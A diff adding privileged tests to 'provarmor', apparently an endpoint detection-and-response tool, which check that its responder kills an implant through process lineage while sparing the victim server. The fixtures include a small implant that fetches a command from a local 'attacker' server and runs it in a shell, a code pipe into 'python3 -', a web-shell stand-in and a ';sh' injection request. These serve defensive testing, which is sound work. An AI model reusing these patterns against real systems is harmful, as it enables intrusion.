@@ -1,20 +1,32 @@
 """The responder on real processes: dry-run records and touches nothing, enforce acts,
 an incident's later versions (and a restarted responder) never ask twice, the rate limit
-holds, off does nothing, and an action is undone through the audit trail."""
+holds, off does nothing, and an action is undone through the audit trail; with the
+analysis's lineage it reaches a piped implant whose short-lived child raised the signal,
+and never the service the attack came in through."""
 
 import dataclasses
+import itertools
+import os
+import socket
+import sys
+import threading
+from pathlib import Path
 
 import msgspec
 import pytest
 
+from provarmor.graph.lineage import LineageClassifier
+from provarmor.model.actions import Action
 from provarmor.model.attack import AttackRef
-from provarmor.model.incident import Incident, IncidentNode, NodeRole
+from provarmor.model.event import Endpoint, Event, ProcessRef
+from provarmor.model.incident import Incident, IncidentEdge, IncidentNode, NodeRole
 from provarmor.response.audit import AuditTrail, Phase, read_audit
 from provarmor.response.policy import Mode, Policy, PolicyRule, RateLimit
 from provarmor.response.records import ActionKind, Outcome
 from provarmor.response.responder import Responder
+from provarmor.testing.factories import make_event
 
-from .conftest import move_into, state_of, target_of, wait_for
+from .conftest import gone, move_into, state_of, target_of, wait_for
 
 pytestmark = pytest.mark.privileged
 
@@ -125,6 +137,19 @@ def test_the_rate_limit_refuses_past_its_count(context, spawn):
     assert responder.counters["rate_limited"] == 1
 
 
+def test_an_action_refused_on_the_host_does_not_use_up_the_rate_limit(context, spawn):
+    """Kills of signalling processes that are gone touch nothing: they leave the host's
+    count for the implant that still runs."""
+    finished, implant = spawn("sleep", "0.01"), spawn("sleep", "300")
+    incident = story(context, finished.pid, implant.pid)
+    finished.wait(timeout=5)
+    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL, limit=1), context)
+    results = responder.on_incident(incident, rule_ids=set())
+    assert [r.outcome for r in results] == [Outcome.REFUSED, Outcome.DONE]
+    assert "gone" in results[0].message
+    implant.wait(timeout=5)
+
+
 def test_undo_resumes_a_suspended_process(context, spawn):
     process = spawn("sleep", "300")
     responder = Responder.open(policy(Mode.ENFORCE, ActionKind.SUSPEND), context)
@@ -169,3 +194,171 @@ def test_a_host_failure_is_a_failed_result_not_a_crash(context, tmp_path):
     record = responder.run(request)
     assert record.outcome is Outcome.FAILED and "quarantine" in record.message
     assert implant.read_text() == "x"
+
+
+IMPLANT = """\
+import os, socket, subprocess, sys, time
+task = socket.create_connection(("127.0.0.1", int(sys.argv[1]))).recv(256).decode()
+child = subprocess.Popen(["sh", "-c", task])
+child.wait()
+with open(sys.argv[2] + ".tmp", "w") as out:
+    out.write(f"{os.getpid()} {child.pid}")
+os.rename(sys.argv[2] + ".tmp", sys.argv[2])
+time.sleep(300)
+"""
+SERVER = """\
+import os, socket, subprocess, sys, time
+def put(path, text):  # whole or not at all: the test reads it as soon as it exists
+    with open(path + ".tmp", "w") as out:
+        out.write(text)
+    os.rename(path + ".tmp", path)
+listener = socket.create_server(("127.0.0.1", 0))
+put(sys.argv[1] + ".port", str(listener.getsockname()[1]))
+connection, _ = listener.accept()
+connection.recv(256)
+shell = subprocess.Popen(["sh", "-c", sys.argv[2]])
+put(sys.argv[1], str(shell.pid))
+time.sleep(300)
+"""
+
+
+class TaskServer:
+    """The attacker's server on 127.0.0.1: hands one task to the implant that calls."""
+
+    def __init__(self) -> None:
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self.listener.getsockname()[1]
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        connection, _ = self.listener.accept()
+        with connection:
+            connection.sendall(b"id >/dev/null")
+
+    def close(self) -> None:
+        self.listener.close()
+        self.thread.join(timeout=5)
+
+
+def read_when_written(path: Path) -> str:
+    wait_for(path.exists, timeout=20, what=str(path))
+    return path.read_text()
+
+
+class Seen:
+    """Events describing what the test's real processes did, under their real entity ids
+    (the lineage classifier's input, as the sensor would report them)."""
+
+    def __init__(self, context) -> None:
+        self.context = context
+        self.ids: dict[int, str] = {os.getpid(): target_of(os.getpid(), context).entity_id}
+        self.classifier = LineageClassifier()
+
+    def started(self, pid: int, parent: int, exe: str, *args: str, alive: bool = True) -> None:
+        self.ids[pid] = target_of(pid, self.context).entity_id if alive else f"exited-{pid}"
+        self.saw(make_event(Action.FORK, pid=pid, ppid=parent, exe=exe))
+        self.saw(make_event(Action.EXEC, pid=pid, exe=exe, args=(exe, *args), path=exe))
+
+    def saw(self, event: Event, **fields: object) -> None:
+        pid, parent = event.process.pid, event.process.parent
+        process = msgspec.structs.replace(
+            event.process,
+            entity_id=self.ids[pid],
+            parent=None if parent is None else ProcessRef(entity_id=self.ids[parent.pid]),
+        )
+        self.classifier.observe(msgspec.structs.replace(event, process=process, **fields))
+
+    def story(self, *pids: int, signalling: int) -> Incident:
+        nodes = tuple(
+            IncidentNode(
+                id=self.ids[pid],
+                kind="process",
+                label=str(pid),
+                pid=pid,
+                first_ts=index,
+                alert_ids=("alert-1",) if pid == signalling else (),
+            )
+            for index, pid in enumerate(pids)
+        )
+        edges = tuple(
+            IncidentEdge(src=self.ids[a], dst=self.ids[b], action="fork", first_ts=1, last_ts=1)
+            for a, b in itertools.pairwise(pids)
+        )
+        return msgspec.structs.replace(story(self.context), nodes=nodes, edges=edges)
+
+
+def start_implant(seen: Seen, shell: int, tasks: TaskServer, pids: Path) -> tuple[int, int]:
+    """The shell piped the implant into ``python3 -``; it took a task from the attacker's
+    server and ran it in a short-lived child (gone now). Returns (implant, child)."""
+    implant, child = map(int, read_when_written(pids).split())
+    assert gone(child) and not gone(implant)
+    seen.started(implant, shell, sys.executable, "-")
+    seen.saw(make_event(Action.CONNECT, pid=implant, ip="127.0.0.1", port=tasks.port))
+    seen.saw(make_event(Action.RECV, pid=implant, ip="127.0.0.1", port=tasks.port))
+    seen.started(child, implant, "/bin/sh", "-c", "id", alive=False)
+    return implant, child
+
+
+def test_a_piped_implant_whose_child_signalled_is_killed_and_its_plain_parent_kept(
+    context, spawn, tmp_path
+):
+    """``sh -c 'cat implant.py | python3 - ...; sleep 300'`` started by a plain process:
+    the implant (it took its task from a remote server: raised) is killed through the
+    lineage; the shell that piped it has no raised lineage and lives on."""
+    (tmp_path / "implant.py").write_text(IMPLANT)
+    tasks = TaskServer()
+    pids = tmp_path / "implant.pids"
+    command = f"cat {tmp_path}/implant.py | {sys.executable} - {tasks.port} {pids}; sleep 300"
+    shell = spawn("sh", "-c", command)
+    seen = Seen(context)
+    seen.started(shell.pid, os.getpid(), "/bin/sh", "-c", command)
+    implant, child = start_implant(seen, shell.pid, tasks, pids)
+    tasks.close()
+    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL), context)
+    incident = seen.story(shell.pid, implant, child, signalling=child)
+    results = responder.on_incident(incident, rule_ids=set(), side=seen.classifier)
+    assert [(r.request.target.pid, r.outcome) for r in results] == [
+        (implant, Outcome.DONE),
+        (child, Outcome.REFUSED),  # gone before the incident was seen
+    ]
+    wait_for(lambda: gone(implant), what="the implant's end")
+    assert shell.poll() is None and not gone(shell.pid)
+
+
+def test_a_victim_server_whose_child_ran_the_implant_is_kept_and_only_the_child_tree_killed(
+    context, spawn, tmp_path
+):
+    """A server accepted the attacker's connection and ran a shell for it (a web shell);
+    that shell piped the implant into python3. The server took connections before anything
+    raised it: it is the victim, never a target; its shell's tree (the implant) is killed."""
+    (tmp_path / "implant.py").write_text(IMPLANT)
+    tasks = TaskServer()
+    pids, spawned = tmp_path / "implant.pids", tmp_path / "shell.pid"
+    command = f"cat {tmp_path}/implant.py | {sys.executable} - {tasks.port} {pids}"
+    server = spawn(sys.executable, "-c", SERVER, str(spawned), command)
+    port = int(read_when_written(Path(f"{spawned}.port")))
+    with socket.create_connection(("127.0.0.1", port)) as attacker:
+        attacker.sendall(b"GET /ping?host=;sh HTTP/1.0\r\n\r\n")
+        shell = int(read_when_written(spawned))
+        seen = Seen(context)
+        seen.started(server.pid, os.getpid(), sys.executable, "-c", "server")
+        listen = make_event(Action.LISTEN, pid=server.pid)
+        seen.saw(listen, source=Endpoint(ip="127.0.0.1", port=port))
+        local_port = attacker.getsockname()[1]
+        seen.saw(make_event(Action.ACCEPT, pid=server.pid, ip="127.0.0.1", port=local_port))
+        seen.saw(make_event(Action.RECV, pid=server.pid, ip="127.0.0.1", port=local_port))
+        seen.started(shell, server.pid, "/bin/sh", "-c", command)
+        implant, child = start_implant(seen, shell, tasks, pids)
+    tasks.close()
+    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.KILL), context)
+    incident = seen.story(server.pid, shell, implant, child, signalling=child)
+    results = responder.on_incident(incident, rule_ids=set(), side=seen.classifier)
+    assert [(r.request.target.pid, r.outcome) for r in results] == [
+        (shell, Outcome.DONE),  # its tree: the shell and the implant
+        (implant, Outcome.REFUSED),
+        (child, Outcome.REFUSED),
+    ]
+    assert "killed 2 process(es)" in results[0].message, results[0].message
+    wait_for(lambda: gone(implant) and gone(shell), what="the shell's tree's end")
+    assert server.poll() is None and not gone(server.pid)
